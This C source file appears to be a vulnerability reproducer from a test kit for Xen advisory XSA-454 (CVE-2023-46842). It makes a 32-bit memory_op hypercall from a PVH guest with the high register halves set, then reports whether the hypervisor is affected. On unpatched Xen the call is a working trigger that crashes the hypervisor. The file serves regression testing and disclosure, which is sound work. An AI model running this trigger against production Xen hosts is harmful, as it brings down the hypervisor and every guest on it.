/* SPDX-License-Identifier: MIT */
/*
 * XSA-454 (CVE-2023-46842): a 32-bit hypercall of an HVM guest with high register halves set.
 *
 * @title     hypercall from compatibility mode with high register halves set
 * @advisory  https://xenbits.xen.org/xsa/advisory-454.html
 * @affected  Xen 3.0 to 4.18.1; fixed in 4.15.6, 4.16.6, 4.17.4, 4.18.2 (6a98383b08)
 * @platforms xen-pvh
 * @expect    4.14=bad 4.17.5=good 4.17.7=good 4.18.2+=good
 *
 * Background: a guest with hardware virtualization may leave 64-bit mode at any time. Registers
 * keep their high halves then, although 32-bit code can neither see nor set them.
 *
 * Mechanism: a memory_op from 32-bit mode passes Xen's translation of 32-bit arguments, which on
 * its way out looks at the saved registers whole and insists that they are below 4 GiB. Every
 * successful call passes that check, even one that populates no extents.
 *
 * Verdicts: good if the call succeeds as it does with clear high halves; the bug shows as "Xen BUG
 * at hypercall.c", which ends the hypervisor.
 *
 * Cannot tell: whether other hypercalls (mmuext_op of a PVH guest) are right too.
 */
#include "repro/kit.h"

#define HIGH_HALF 0xdead000000000000

REPRO("xsa-454")
{
    struct {
        u32 extent_start, nr_extents, extent_order, mem_flags;
        u16 domid;
    } *reservation = kit_page(); /* as a 32-bit guest lays it out */
    struct kit_regs regs = {.rax = __HYPERVISOR_memory_op, .rbx = XENMEM_populate_physmap};
    u8 call[3];

    kit_needs(KIT_XEN_PVH);
    reservation->domid = DOMID_SELF;
    regs.rcx = kit_gfn(reservation) << PAGE_SHIFT;
    kit_hypercall_insn(call);
    kit_run32(call, sizeof(call), &regs);
    if (regs.rax)
        cannot_tell("the same call with clear high halves: %lld", (long long)regs.rax);

    regs = (struct kit_regs){.rax = __HYPERVISOR_memory_op,
                             .rbx = HIGH_HALF | XENMEM_populate_physmap,
                             .rcx = HIGH_HALF | kit_gfn(reservation) << PAGE_SHIFT,
                             .rdx = HIGH_HALF,
                             .rsi = HIGH_HALF,
                             .rdi = HIGH_HALF};
    STEP kit_run32(call, sizeof(call), &regs);
    EVIDENCE(regs.rax != __HYPERVISOR_memory_op);
    if (regs.rax)
        bad("with high halves set the result is %lld", (long long)regs.rax);
    good("the high halves were ignored");
}
